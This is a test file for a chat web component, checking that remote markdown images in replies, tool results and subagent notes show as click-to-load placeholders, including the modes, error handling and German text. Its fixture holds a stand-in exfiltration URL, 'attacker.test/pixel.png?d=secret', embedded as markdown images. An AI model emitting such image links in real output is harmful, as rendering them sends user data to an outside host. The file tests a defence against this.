import { expect, fixture, html } from '@open-wc/testing';
import type { AgentChat } from '../../src/agent-chat/agent-chat.js';
import type { ChatEvent } from '../../src/protocol/contract.js';
import type { Transport } from '../../src/protocol/contract.js';
import { loadStrings } from '../../src/i18n/strings.js';
import { deepQuery, deepQueryAll, sendAndWait, settle } from './helpers.js';

const REMOTE = 'https://attacker.test/pixel.png?d=secret';

/** A backend whose reply shows a remote image in its text, in a tool's markdown result and in a subagent's note. */
const imageTransport: Transport = {
  async *run(request): AsyncGenerator<ChatEvent> {
    yield { type: 'run-started', runId: request.runId };
    yield { type: 'text-delta', messageId: 'm', delta: `Look: ![chart](${REMOTE}) and ![own](/favicon.ico)` };
    yield { type: 'tool-call-start', toolCallId: 'c', name: 'report' };
    yield { type: 'tool-call-end', toolCallId: 'c' };
    yield { type: 'tool-call-result', toolCallId: 'c', content: `## Report\n\n- item\n\n![in result](${REMOTE})` };
    yield { type: 'subagent-started', subagentRunId: 's', name: 'researcher' };
    yield { type: 'text-delta', messageId: 'sm', delta: `Note ![in note](${REMOTE})`, subagentRunId: 's' };
    yield { type: 'subagent-finished', subagentRunId: 's' };
    yield { type: 'run-finished' };
  },
};

async function chatWith(images?: string): Promise<AgentChat> {
  const el = await fixture<AgentChat>(html`<agent-chat storage="none" tool-cards="open" images=${images ?? 'click'}></agent-chat>`);
  el.transport = imageTransport;
  await sendAndWait(el, 'show me');
  return el;
}

const remoteImages = (el: AgentChat) => deepQueryAll<HTMLImageElement>(el, 'img').filter((image) => image.getAttribute('src')!.includes('attacker.test'));

describe('<agent-chat> images', () => {
  it('by default no image from another origin is in the page: text, tool results and subagent notes show placeholders', async () => {
    const el = await chatWith();
    expect(remoteImages(el).length).to.equal(0);
    const placeholders = deepQueryAll<HTMLButtonElement>(el, 'button.image-placeholder');
    expect(placeholders.map((button) => button.textContent)).to.deep.equal([
      'Show image from attacker.test (chart)',
      'Show image from attacker.test (in result)',
      'Show image from attacker.test (in note)',
    ]);
    expect(deepQueryAll(el, 'img').some((image) => image.getAttribute('src') === '/favicon.ico')).to.equal(true, 'the page’s own image loads');
    placeholders[0].click();
    expect(remoteImages(el).length).to.equal(1);
  });

  it('images="none" shows only the placeholders; images="allow" loads them; a wrong value is reported and means click', async () => {
    const none = await chatWith('none');
    expect(remoteImages(none).length).to.equal(0);
    expect(deepQueryAll(none, 'span.image-placeholder').length).to.equal(3);
    expect(deepQueryAll(none, 'button.image-placeholder').length).to.equal(0);
    const allowed = await chatWith('allow');
    expect(remoteImages(allowed).length).to.equal(3);
    const wrong = await chatWith('sometimes');
    expect(remoteImages(wrong).length).to.equal(0);
    expect(deepQuery(wrong, '.config-error')?.textContent ?? '').to.contain('images="sometimes"');
  });

  it('speaks the chat’s language', async () => {
    const el = await fixture<AgentChat>(html`<agent-chat storage="none" lang="de"></agent-chat>`);
    await loadStrings('de');
    await settle(el);
    el.transport = imageTransport;
    await sendAndWait(el, 'zeig');
    await settle(el);
    expect(deepQuery(el, 'button.image-placeholder')?.textContent).to.equal('Bild von attacker.test anzeigen (chart)');
  });

  it('keeps an image the person chose to load when the chat’s language changes; the other placeholders follow it', async () => {
    const el = await chatWith();
    await loadStrings('de');
    deepQueryAll<HTMLButtonElement>(el, 'button.image-placeholder')[0].click();
    expect(remoteImages(el).length).to.equal(1);
    el.lang = 'de';
    await settle(el);
    await settle(el);
    expect(remoteImages(el).map((image) => image.alt)).to.deep.equal(['chart']);
    expect(deepQueryAll(el, 'button.image-placeholder').map((button) => button.textContent)).to.deep.equal([
      'Bild von attacker.test anzeigen (in result)',
      'Bild von attacker.test anzeigen (in note)',
    ]);
  });
});
